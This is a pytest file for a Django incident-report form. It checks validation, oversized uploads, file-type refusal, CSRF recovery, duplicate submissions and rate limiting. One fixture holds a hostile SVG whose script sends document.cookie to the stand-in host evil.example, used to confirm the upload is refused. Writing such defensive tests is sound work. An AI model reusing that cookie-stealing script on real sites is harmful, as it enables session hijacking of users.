# SPDX-License-Identifier: Apache-2.0
"""What goes wrong on the way in: a clear answer in the reader's language, and nothing typed is lost."""

from __future__ import annotations

import threading
from io import BytesIO
from typing import Any
from uuid import uuid4

import pytest
from django.db import connection

from epidesk.foundation.desk.queries import QueueFilter, queue

from .browser import Phone

pytestmark = pytest.mark.django_db
WORDS = "Người đàn ông ho nhiều ở quán cà phê"


def said(phone: Phone, vi: str, en: str) -> None:
    expected = {"vi": vi, "en": en}[phone.client.cookies["language"].value]
    assert expected in phone.text, phone.text


def kept(phone: Phone) -> None:
    """All that was typed stands in the form again."""
    values = phone.form().values
    assert values["description"] == [WORDS]
    assert values["seen"] == ["crowd"]


def count(lan: Any) -> int:
    return len(queue(lan.as_viewer(), QueueFilter()).items)


def test_no_place(speaker, lan):
    speaker.open("/report").send(seen=["crowd"], description=WORDS)
    assert speaker.status == 422
    said(speaker, "Hãy cho biết nơi", "Say where")
    kept(speaker)
    assert count(lan) == 0
    speaker.send(area="19774")
    assert count(lan) == 1, "mending the one thing is enough"


def test_nothing_seen_and_nothing_said(speaker, lan):
    speaker.open("/report").send(area="19774")
    assert speaker.status == 422
    said(speaker, "Hãy chọn ít nhất một mục", "Tick what applies")
    assert count(lan) == 0


@pytest.mark.parametrize("lon", ["NaN", "inf", "1e400", "181", "abc", "107,5"])
def test_a_point_that_is_none_never_breaks_the_page(phone, lan, lon):
    phone.open("/report").send(seen=["crowd"], description=WORDS, lon=lon, lat="16.4", located_by="pin")
    assert phone.status == 422
    assert count(lan) == 0


def test_a_hundred_thousand_characters(speaker, lan):
    text = "ế" * 100_000
    speaker.open("/report").send(seen=["crowd"], area="19774", description=text)
    assert speaker.status == 422
    said(speaker, "100000", "100000")
    assert speaker.form().values["description"] == [text], "the text is still there, whole"
    assert count(lan) == 0


class Endless:
    """A multipart body whose photo has 200 MB, made while it is read."""

    def __init__(self, fields: dict[str, str], photo_mb: int) -> None:
        parts = [f'--B\r\nContent-Disposition: form-data; name="{k}"\r\n\r\n{v}\r\n' for k, v in fields.items()]
        head = (
            '--B\r\nContent-Disposition: form-data; name="photos"; filename="a.jpg"\r\nContent-Type: image/jpeg\r\n\r\n'
        )
        self.head = BytesIO(("".join(parts) + head).encode())
        self.tail = BytesIO(b"\r\n--B--\r\n")
        self.left = photo_mb * 1024 * 1024
        self.length = len(self.head.getvalue()) + self.left + len(self.tail.getvalue())

    def readline(self, size: int = -1) -> bytes:
        raise AssertionError("a body of 200 MB is not read line by line")

    def read(self, size: int = -1) -> bytes:
        if chunk := self.head.read(size):
            return chunk
        if self.left:
            part = min(size, self.left)
            self.left -= part
            return b"\xff" * part
        return self.tail.read(size)


def test_a_photo_of_200_mb_is_dropped_and_the_words_are_kept(speaker, lan):
    form = speaker.open("/report").form()
    fields = {name: values[0] for name, values in form.values.items()}
    body = Endless(fields | {"seen": "crowd", "description": WORDS, "area": "19774"}, 200)
    speaker.answer = speaker.client.generic(
        "POST",
        "/report",
        CONTENT_TYPE="multipart/form-data; boundary=B",
        CONTENT_LENGTH=str(body.length),
        **{"wsgi.input": body},
    )
    assert speaker.status == 422
    said(speaker, "lớn hơn 12 MB", "larger than 12 MB")
    kept(speaker)
    assert count(lan) == 0
    speaker.send()
    assert count(lan) == 1, "it goes without the photo"


HOSTILE_SVG = b"""<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">
<script>fetch('//evil.example/'+document.cookie)</script></svg>"""


@pytest.mark.parametrize(
    ("content", "name", "kind", "vi", "en"),
    [
        (b"MZ\x90\x00 this program cannot be run", "quan.jpg", "image/jpeg", "không phải là ảnh", "not a photo"),
        (HOSTILE_SVG, "anh.svg", "image/svg+xml", "SVG", "SVG"),
        (HOSTILE_SVG, "anh.jpg", "image/jpeg", "SVG", "SVG"),
        (b"", "trong.jpg", "image/jpeg", "trống", "empty"),
    ],
    ids=["fake image", "hostile SVG", "SVG called JPEG", "empty file"],
)
def test_what_is_no_photo_is_refused_and_the_words_are_kept(speaker, lan, photo, content, name, kind, vi, en):
    speaker.open("/report").send(
        seen=["crowd"], description=WORDS, area="19774", files=[photo(content, name, kind), photo()]
    )
    assert speaker.status == 422
    said(speaker, vi, en)
    kept(speaker)
    assert len(speaker.form().values["photo_ids"]) == 1, "the good photo need not be chosen again"
    assert b"onload" not in speaker.answer.content
    speaker.send()
    assert count(lan) == 1


def test_more_than_three_photos(speaker, lan, photo):
    speaker.open("/report").send(seen=["crowd"], area="19774", files=[photo() for _ in range(5)])
    assert speaker.status == 422
    said(speaker, "Tối đa 3 ảnh", "At most 3 photos")
    assert len(speaker.form().values["photo_ids"]) == 3
    speaker.send()
    assert count(lan) == 1


def test_a_photo_can_be_left_out_again(phone, lan, photo):
    phone.open("/report").send(seen=["crowd"], files=[photo()])
    assert phone.status == 422, "no place yet"
    phone.send(area="19774", photo_ids=[])
    from epidesk.intake.incidents.queries import detail

    (row,) = queue(lan.as_viewer(), QueueFilter()).items
    assert detail(lan.as_viewer(), row.subject_id).photos == ()


def test_a_strangers_photo_cannot_be_taken(phone, lan, photo):
    stranger = Phone.new()
    stranger.open("/report").send(seen=["crowd"], files=[photo()])
    (theirs,) = stranger.form().values["photo_ids"]
    assert stranger.client.get(f"/photos/{theirs}").status_code == 200
    assert phone.open("/report").client.get(f"/photos/{theirs}").status_code == 404
    form = phone.open("/report").form()
    phone.post("/report", form.values | {"seen": "crowd", "area": "19774", "photo_ids": theirs})
    assert phone.status == 422
    assert count(lan) == 0


def test_a_stale_form_keeps_the_words_and_goes_with_one_press(hue, lan):
    wards = ("19774", "19753")  # in one ward the second would be asked whether it is the first
    for area, (language, vi, en) in zip(
        wards, (("vi", "Lời bạn viết", ""), ("en", "", "What you typed is kept")), strict=True
    ):
        phone = Phone.new(language, checks_csrf=True)
        form = phone.open("/report").form()
        phone.client.cookies["csrftoken"] = "x" * 32  # the browser forgot the page's token meanwhile
        before = count(lan)
        phone.post("/report", form.values | {"seen": "crowd", "description": WORDS, "area": area})
        assert phone.status == 403
        assert count(lan) == before
        again = phone.form("/report")
        assert again.values["description"] == [WORDS]
        assert (vi or en) in phone.text or "được giữ" in phone.text, phone.text
        phone.post("/report", again.values)
        assert phone.trail[-1].endswith("/received")
        assert count(lan) == before + 1


def test_a_double_tap_makes_one_incident(phone, lan, photo):
    form = phone.open("/report").form()
    values = form.values | {"seen": "crowd", "area": "19774"}
    first = phone.post("/report", values | {"photos": photo()}).trail[-1]
    second = phone.post("/report", values | {"photos": photo()}).trail[-1]
    assert first == second
    assert count(lan) == 1


def test_sending_other_words_with_a_used_form_is_asked_back(speaker, lan):
    values = speaker.open("/report").form().values | {"seen": "crowd", "area": "19774"}
    speaker.post("/report", values)
    speaker.post("/report", values | {"description": WORDS})
    assert speaker.status == 422
    said(speaker, "đã được gửi rồi", "sent already")
    assert count(lan) == 1
    speaker.send()
    assert count(lan) == 1, "the first is near: asked once more"
    speaker.mine_is_another()
    assert speaker.trail[-1].endswith("/received")
    assert count(lan) == 2, "a second report is possible, knowingly"


def test_a_strangers_key_opens_nothing(phone, lan):
    values = phone.open("/report").form().values | {"seen": "crowd", "area": "19774"}
    mine = phone.post("/report", values).trail[-1]
    stranger = Phone.new()
    stranger.open("/report")
    stranger.post("/report", values)
    assert not stranger.trail, "asked whether it is the same, and led to nobody's receipt"
    theirs = stranger.post("/report", values | {"similar": "other"}).trail[-1]
    assert theirs.endswith("/received")
    assert theirs != mine
    assert count(lan) == 2


def test_a_form_without_a_key_is_filed_all_the_same(phone, lan):
    values = phone.open("/report").form().values | {"seen": "crowd", "area": "19774", "idempotency_key": "x"}
    assert phone.post("/report", values).trail[-1].endswith("/received")
    assert count(lan) == 1


def test_a_flood_from_one_phone_is_slowed_and_keeps_the_words(speaker, lan):
    values = speaker.open("/report").form().values | {"seen": "crowd", "area": "19774", "similar": "other"}
    for _ in range(30):
        answer = speaker.client.post("/report", values | {"idempotency_key": uuid4().hex})
        assert answer["Location"].endswith("/received")
    speaker.open("/report").send(seen=["crowd"], description=WORDS, area="19774")
    assert speaker.status == 429
    said(speaker, "gọi đường dây nóng", "call the hotline")
    kept(speaker)


@pytest.mark.django_db(transaction=True)
def test_two_taps_at_the_same_moment_make_one_incident(hue, lan):
    phone = Phone.new()
    values = phone.open("/report").form().values | {"seen": "crowd", "area": "19774"}
    taps = [Phone.new() for _ in range(3)]
    for tap in taps:
        tap.client.cookies = phone.client.cookies
    ready = threading.Barrier(len(taps))

    def send(tap: Phone) -> None:
        ready.wait()
        try:
            tap.answer = tap.client.post("/report", values)
        finally:
            connection.close()

    threads = [threading.Thread(target=send, args=[tap]) for tap in taps]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert {tap.status for tap in taps} == {302}
    assert len({tap.answer["Location"] for tap in taps}) == 1
    assert count(lan) == 1
